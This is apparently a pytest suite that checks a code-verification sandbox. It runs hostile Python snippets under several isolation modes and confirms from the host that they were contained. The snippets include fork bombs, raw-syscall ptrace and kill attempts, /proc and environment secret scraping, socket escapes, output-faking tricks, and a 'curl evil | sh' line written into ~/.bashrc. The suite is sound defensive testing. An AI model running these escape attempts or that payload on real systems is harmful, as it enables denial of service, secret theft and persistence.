"""Hostile programs in the sandbox, each checked on the host: files, processes, connections a listener
the test owns received, keys and ptys the kernel counts. Never by trusting the sandbox's report.

Every attack runs in each mode this machine supports:
- "bwrap" and "namespaces": one isolation layer each, with the Python guards off, so the boundary
  is shown to hold by itself (the guards are defence in depth, not a boundary);
- "default": what a user gets (the best layer here, guards on);
- "refused": isolation refused by the kernel (simulated); nothing may run at all.
tests/test_sandbox_unprivileged.py runs this file again as an unprivileged user. An autouse fixture
checks after each test that no process of the run is left.
"""

from __future__ import annotations

import contextlib
import fcntl
import os
import shutil
import socket
import subprocess
import tempfile
import threading
import time
from pathlib import Path
from typing import TypeGuard

import pytest

import reason
from reason.verifiers.sandbox import Sandbox, SandboxLimits, SandboxResult, _bwrap_probe
from reason.verifiers.sandbox_bwrap import python_paths
from reason.verifiers.sandbox_processes import UID_BASE, UID_SPAN

MODES = {
    "bwrap": {"layer": "bwrap", "python_guards": False},
    "namespaces": {"layer": "namespaces", "python_guards": False},
    "default": {},
    "refused": {"python_guards": False},
}
UNSANDBOXED = "reason-hostile-escaped"
"""What an attack prints or writes when it got out; never expected on the host."""


@pytest.fixture(params=list(MODES))
def mode(request, monkeypatch):
    if request.param == "bwrap" and _bwrap_probe():
        pytest.skip(f"bwrap cannot isolate here: {_bwrap_probe()}")
    if request.param == "refused":
        monkeypatch.setenv("REASON_SANDBOX_REFUSE_NAMESPACES", "1")
    return request.param


def attack(mode: str, code: str, **limits) -> SandboxResult | None:
    """Run `code` in `mode`; None when the mode must refuse (checked here: nothing ran)."""
    result = Sandbox(SandboxLimits(**{**MODES[mode], **limits})).run(code)
    if mode == "refused":
        assert (result.status, result.unavailable, result.stdout, result.isolation) == ("error", True, "", "none")
        return None
    assert not result.unavailable, result.detail
    return result


def ran_past_the_guards(result: SandboxResult | None) -> TypeGuard[SandboxResult]:
    """The run happened and the Python guards (on in "default") did not stop the program before the attack."""
    return result is not None and not (result.status == "fail" and "SandboxBlocked" in result.stderr)


def _sandbox_processes() -> list[str]:
    """Processes on the host that belong to a sandbox run: its uid range, or its launcher/worker."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            uid = int(Path(f"/proc/{entry}/status").read_text().split("Uid:")[1].split()[0])
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except (OSError, IndexError, ValueError):
            continue
        argv0 = cmdline.split(" ", 1)[0].rsplit("/", 1)[-1]
        if UID_BASE <= uid < UID_BASE + UID_SPAN or argv0 == "bwrap" or any(s in cmdline for s in ("sandbox_child.py", ".4567")):
            found.append(f"{entry}: uid {uid}: {cmdline[:120]}")
    return found


@pytest.fixture(autouse=True)
def no_process_left_behind():
    yield
    assert _sandbox_processes() == []


@pytest.fixture
def host_dir():
    """A folder on the host outside /tmp (which the sandbox replaces anyway) that anyone may write to."""
    base = next((d for d in ("/var/tmp", "/run", "/opt") if os.access(d, os.W_OK)), tempfile.gettempdir())
    folder = Path(tempfile.mkdtemp(prefix="reason-hostile-", dir=base))
    folder.chmod(0o777)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture
def victim(host_dir):
    """A world-writable file the program does not own: only the sandbox keeps it as it is."""
    target = host_dir / "keep-me.txt"
    target.write_text("precious")
    target.chmod(0o666)
    return target


@pytest.fixture
def secret(host_dir):
    """A world-readable file with a secret in it (like the package's bundled answers)."""
    path = host_dir / "answers.jsonl"
    path.write_text('{"answer": "hunter2-file"}\n')
    path.chmod(0o644)
    return path


class Listener:
    """A server socket the test owns; `received` is what reached it."""

    def __init__(self, family: int, address: object) -> None:
        self.server = socket.socket(family, socket.SOCK_STREAM)
        self.server.bind(address)
        self.server.listen()
        self.server.settimeout(0.1)
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(1)
                with contextlib.suppress(OSError):
                    self.received.append(connection.recv(100) or b"<connected>")

    def close(self) -> list[bytes]:
        time.sleep(0.3)
        self._stop.set()
        self._thread.join()
        self.server.close()
        return self.received


def _available_memory() -> int:
    for line in Path("/proc/meminfo").read_text().splitlines():
        if line.startswith("MemAvailable:"):
            return int(line.split()[1]) * 1024
    return 0


LIBC = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"


# -- processes and CPU ------------------------------------------------------------------------------

def test_fork_bomb_is_contained(mode):
    code = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
    result = attack(mode, code, wall_s=4, processes=8)
    if result:
        assert result.status in ("timeout", "error", "fail")
    assert subprocess.run(["true"], check=False).returncode == 0  # the host can still start processes


def test_fork_bomb_through_raw_syscalls_is_contained(mode):
    code = LIBC + "for _ in range(200):\n    libc.syscall(57)\nimport time; time.sleep(30)"
    result = attack(mode, code, wall_s=3, processes=8)
    if result:
        assert result.status in ("timeout", "fail")


def test_busy_loop_is_stopped(mode):
    started = time.monotonic()
    result = attack(mode, "while True:\n    pass\n", wall_s=5, cpu_s=1)
    if result:
        assert (result.status, result.limit) == ("timeout", "cpu_time") and result.cpu_s >= 1
    assert time.monotonic() - started < 15


def test_a_daemon_that_double_forks_and_sets_a_session_does_not_outlive_the_run(mode, victim):
    code = LIBC + (
        "if libc.syscall(57) == 0:\n    os.setsid()\n    if libc.syscall(57) == 0:\n"
        f"        os.execv('/bin/sh', ['sh', '-c', 'sleep 2; echo {UNSANDBOXED} > {victim}; exec sleep 63.4567'])\n"
        "    os._exit(0)\nprint('parent done')"
    )
    attack(mode, code)
    time.sleep(2.5)
    assert victim.read_text() == "precious"
    leftovers = subprocess.run(["pgrep", "-f", "63.4567"], capture_output=True, text=True, check=False).stdout
    assert leftovers.strip() == ""


def test_kill_everything_reaches_no_host_process(mode):
    bystander = subprocess.Popen(["sleep", "30"])
    try:
        result = attack(mode, LIBC + "print(libc.kill(-1, 9), ctypes.get_errno())")
        assert bystander.poll() is None
        if result:
            assert result.status in ("pass", "fail")
    finally:
        bystander.kill()
        bystander.wait()


def test_ptrace_of_the_parent_and_pid_1_is_refused(mode):
    code = LIBC + "for pid in (1, os.getppid()):\n    print(pid, libc.ptrace(16, pid, 0, 0), ctypes.get_errno())"
    result = attack(mode, code)
    if ran_past_the_guards(result):
        assert result.status == "pass" and all(line.split()[1] == "-1" for line in result.stdout.splitlines())


def test_shell_and_subprocesses_through_the_reimported_spawner_are_contained(mode, victim):
    code = (
        "import sys\ndel sys.modules['_posixsubprocess']\nimport _posixsubprocess, subprocess\n"
        f"subprocess.run(['/bin/sh', '-c', 'echo {UNSANDBOXED} > {victim}; sleep 61.4567 &'])\n"
        f"subprocess.Popen(['sleep', '62.4567'])\nprint('spawned')"
    )
    attack(mode, code)
    assert victim.read_text() == "precious"
    leftovers = subprocess.run(["pgrep", "-f", "6[12].4567"], capture_output=True, text=True, check=False).stdout
    assert leftovers.strip() == ""


# -- memory -----------------------------------------------------------------------------------------

def test_allocating_20_gib_fails_without_touching_host_memory(mode):
    before = _available_memory()
    result = attack(mode, "block = bytearray(20 * 2**30)\nprint('allocated')\n", memory_mb=512)
    if result:
        assert result.status in ("fail", "error") and "allocated" not in result.stdout
    assert _available_memory() > before - 2 * 2**30


def test_memory_spread_over_processes_is_killed_by_the_host(mode):
    code = ("import os, time\nfor _ in range(3):\n    if os.fork() == 0:\n        break\n"
            "x = bytearray(150 * 2**20)\nfor i in range(0, len(x), 4096): x[i] = 1\ntime.sleep(20)")
    result = attack(mode, code, memory_mb=256, wall_s=30)
    if result and mode != "default":  # the default's guards refuse the fork itself
        assert (result.status, result.limit) == ("error", "memory")
    if result:
        assert result.wall_s < 15


def test_memory_outside_every_process_is_refused(mode):
    """memfd pages, a tmpfs from a nested user namespace, /dev/shm and /tmp past their size."""
    code = LIBC + (
        "print('memfd', libc.syscall(319, b'x', 0), ctypes.get_errno())\n"
        "print('unshare', libc.unshare(0x10000000 | 0x00020000), ctypes.get_errno())\n"
        "for folder in ('/dev/shm', '/tmp'):\n    try:\n"
        "        with open(folder + '/fill', 'wb') as fh:\n            for _ in range(200):\n"
        "                fh.write(b'x' * 2**20)\n        print(folder, 'filled')\n"
        "    except OSError as e:\n        print(folder, 'refused', e.errno)\n"
    )
    result = attack(mode, code, scratch_mb=32, file_size_mb=512)
    if ran_past_the_guards(result):
        lines = dict(line.split(" ", 1) for line in result.stdout.splitlines())
        assert lines["memfd"].startswith("-1") and lines["unshare"].startswith("-1"), result.stdout
        assert "filled" not in result.stdout


# -- network and sockets ----------------------------------------------------------------------------

def test_tcp_to_a_host_listener_never_connects(mode):
    listener = Listener(socket.AF_INET, ("127.0.0.1", 0))
    port = listener.server.getsockname()[1]
    code = LIBC + (
        "import socket, struct\n"
        f"try:\n    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'{UNSANDBOXED}')\n"
        "except OSError as e:\n    print('socket module', e)\n"
        "fd = libc.syscall(41, 2, 1, 0)\n"
        f"addr = struct.pack('<HH4s8x', 2, socket.htons({port}), bytes([127, 0, 0, 1]))\n"
        "print('raw', fd, libc.connect(fd, addr, 16), ctypes.get_errno())\n"
    )
    try:
        attack(mode, code)
    finally:
        received = listener.close()
    assert received == []


def test_unix_sockets_on_the_host_never_connect(mode, host_dir):
    path_listener = Listener(socket.AF_UNIX, str(host_dir / "daemon.sock"))
    os.chmod(host_dir / "daemon.sock", 0o777)
    name = f"reason-hostile-{os.getpid()}"
    abstract_listener = Listener(socket.AF_UNIX, "\0" + name)
    code = (
        "import socket\n"
        f"for address in ({str(host_dir / 'daemon.sock')!r}, '\\0{name}'):\n"
        "    try:\n        s = socket.socket(socket.AF_UNIX)\n        s.connect(address)\n"
        f"        s.sendall(b'{UNSANDBOXED}')\n    except OSError as e:\n        print(address, e)\n"
    )
    try:
        attack(mode, code)
    finally:
        received = path_listener.close() + abstract_listener.close()
    assert received == []


# -- what it can see ---------------------------------------------------------------------------------

def test_proc_shows_nothing_of_the_host(mode, monkeypatch, secret):
    monkeypatch.setenv("REASON_FAKE_SECRET", "hunter2-env")
    code = (
        "import os\nseen = []\n"
        "for pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
        "    for name in ('environ', 'cmdline'):\n        try:\n"
        "            seen.append(open(f'/proc/{pid}/{name}', 'rb').read().decode(errors='replace'))\n"
        "        except OSError:\n            pass\n"
        "    try:\n        for fd in os.listdir(f'/proc/{pid}/fd'):\n            try:\n"
        "                seen.append(os.readlink(f'/proc/{pid}/fd/{fd}'))\n"
        "                handle = os.open(f'/proc/{pid}/fd/{fd}', os.O_RDONLY | os.O_NONBLOCK)\n"
        "                seen.append(os.read(handle, 200).decode(errors='replace'))\n"
        "            except OSError:\n                pass\n    except OSError:\n        pass\n"
        "print(len([p for p in os.listdir('/proc') if p.isdigit()]), 'processes')\nprint('\\n'.join(seen))"
    )
    result = attack(mode, code)
    if result:
        assert "hunter2" not in result.stdout + result.stderr
        assert str(secret.parent) not in result.stdout and "reason-sandbox-" not in result.stdout
        assert int(result.stdout.split()[0]) <= 4  # its own process, and at most the namespace's init


def test_inherited_descriptors_are_closed(mode, secret):
    fd = os.open(secret, os.O_RDONLY)
    os.set_inheritable(fd, True)
    code = ("import os\nfor fd in range(3, 256):\n    try:\n        os.lseek(fd, 0, 0)\n"
            "        print(fd, os.read(fd, 100))\n    except OSError:\n        pass\n")
    try:
        result = attack(mode, code)
    finally:
        os.close(fd)
    if result:
        assert "hunter2" not in result.stdout and result.status == "pass"


def test_host_files_package_data_and_homes_are_not_visible(mode, secret, tmp_path):
    package_data = Path(reason.__file__).parent / "data" / "gsm8k" / "test.jsonl.gz"
    shared = Path(__file__).resolve().parents[2] / "shared" / "data"
    code = (
        "import os\nfound = []\n"
        f"for path in ({str(secret)!r}, {str(package_data)!r}, {str(shared)!r}, '/root', '/home', '/etc/passwd',\n"
        f"             '/etc/shadow', {str(tmp_path)!r}, '/var', '/run', '/opt', '/work', '/mnt', '/srv', '/sys'):\n"
        "    if os.path.exists(path):\n        found.append(path)\n"
        "print(found)\nprint(sorted(os.listdir('/')))"
    )
    result = attack(mode, code)
    if result:
        found, top = eval(result.stdout.splitlines()[0]), eval(result.stdout.splitlines()[1])
        install = python_paths()  # the Python install is bound where it lives: the folders above it exist
        assert all(any(p == f or p.startswith(f + "/") for p in install) for f in found), result.stdout
        above = {p.split("/")[1] for p in install}
        assert set(top) <= {"bin", "dev", "etc", "lib", "lib32", "lib64", "libx32", "proc", "sandbox", "sbin", "tmp",
                            "usr"} | above, top


def test_a_lock_on_a_host_file_cannot_be_taken(mode, host_dir):
    lock = host_dir / "host.lock"
    lock.write_text("")
    lock.chmod(0o666)
    code = ("import fcntl, time\ntry:\n"
            f"    fh = open({str(lock)!r})\n    fcntl.flock(fh, fcntl.LOCK_EX)\n    print('locked')\n"
            "except OSError as e:\n    print('refused', e)\ntime.sleep(3)")
    held: list[bool] = []

    def host_tries() -> None:
        time.sleep(1.5)
        with open(lock) as fh:
            try:
                fcntl.flock(fh, fcntl.LOCK_EX | fcntl.LOCK_NB)
                held.append(False)
            except BlockingIOError:
                held.append(True)

    thread = threading.Thread(target=host_tries)
    thread.start()
    attack(mode, code, wall_s=6)
    thread.join()
    assert held == [False]


def test_kernel_keys_are_refused_and_leave_nothing(mode):
    code = LIBC + ("r = libc.syscall(248, b'user', b'reason-hostile-key', b'payload', 7, -4)\n"
                   "print('add_key', r, ctypes.get_errno())")
    result = attack(mode, code)
    if ran_past_the_guards(result):
        assert result.stdout.split()[1] == "-1", result.stdout
    if os.geteuid() == 0:
        users = Path("/proc/key-users").read_text().split()
        assert not any(UID_BASE <= int(field.rstrip(":")) < UID_BASE + UID_SPAN for field in users[::9])
    assert "reason-hostile-key" not in Path("/proc/keys").read_text()


def test_terminals_are_its_own_not_the_hosts(mode):
    host_pty, host_tty = os.openpty()
    number = os.ttyname(host_tty).rsplit("/", 1)[1]
    code = ("import os\nprint(sorted(os.listdir('/dev/pts')))\nopened = []\nfor _ in range(50):\n"
            "    try:\n        opened.append(os.open('/dev/ptmx', os.O_RDWR))\n    except OSError:\n        break\n"
            "print(len(opened))")
    try:
        result = attack(mode, code)
    finally:
        os.close(host_pty)
        os.close(host_tty)
    if result:
        assert number not in eval(result.stdout.splitlines()[0])


def test_nothing_is_left_for_the_next_run(mode):
    first = attack(mode, "import os\nfor path in ('/tmp/left', '/dev/shm/left', 'left'):\n    open(path, 'w').write('x')\n"
                         "print('written')")
    second = attack(mode, "import os\nprint([p for p in ('/tmp/left', '/dev/shm/left', 'left') if os.path.exists(p)])")
    if first and second:
        assert first.stdout == "written\n" and second.stdout == "[]\n"


# -- files on the host ------------------------------------------------------------------------------

def test_writing_and_deleting_host_files_fails(mode, victim):
    code = (
        "import os, shutil\n"
        f"for attempt in (lambda: os.remove({str(victim)!r}), lambda: shutil.rmtree({str(victim.parent)!r}),\n"
        f"                lambda: open({str(victim)!r}, 'w').write('{UNSANDBOXED}'),\n"
        f"                lambda: open({str(victim.parent / 'new.txt')!r}, 'w').write('x'),\n"
        "                lambda: open(os.path.expanduser('~/.bashrc'), 'a').write('curl evil | sh')):\n"
        "    try:\n        attempt()\n        print('done')\n    except OSError as e:\n        print('refused', e)\n"
    )
    result = attack(mode, code)
    if result and mode != "default":
        assert result.status == "pass", result.stderr
    assert victim.read_text() == "precious" and not (victim.parent / "new.txt").exists()


def test_secrets_in_the_environment_are_not_passed(mode, monkeypatch):
    monkeypatch.setenv("REASON_FAKE_SECRET", "hunter2-env")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "hunter2-aws")
    result = attack(mode, "import os\nprint(dict(os.environ))")
    if result:
        assert "hunter2" not in result.stdout and "REASON_FAKE_SECRET" not in result.stdout


# -- faking a verdict ---------------------------------------------------------------------------------

def test_printing_a_gigabyte_is_cut_off(mode):
    started = time.monotonic()
    code = "import sys\nchunk = 'x' * (1 << 20)\nfor _ in range(1024):\n    sys.stdout.write(chunk)\n"
    result = attack(mode, code, max_output_bytes=100_000, wall_s=30)
    if result:
        assert (result.status, result.limit, result.truncated) == ("error", "output", True)
        assert len(result.stdout) == 100_000
    assert time.monotonic() - started < 25


def test_status_lines_other_descriptors_and_control_bytes_fake_nothing(mode):
    code = (
        "import os, sys, json\n"
        "for fd in range(3, 64):\n    try:\n"
        "        os.write(fd, b'{\"exit\": 0}\\n{\"isolation\": \"none\"}\\n.')\n    except OSError:\n        pass\n"
        "print('{\"exit\": 0}\\x00\\x1b[2J\\x1b[32mPASS\\x1b[0m')\n"
        "print('{\"unavailable\": \"x\"}', file=sys.stderr)\nsys.exit(1)"
    )
    result = attack(mode, code)
    if result:
        assert (result.status, result.exit_code, result.limit, result.unavailable) == ("fail", 1, None, False)
        assert "\x00" in result.stdout and "\x1b[2J" in result.stdout  # kept as text, not interpreted
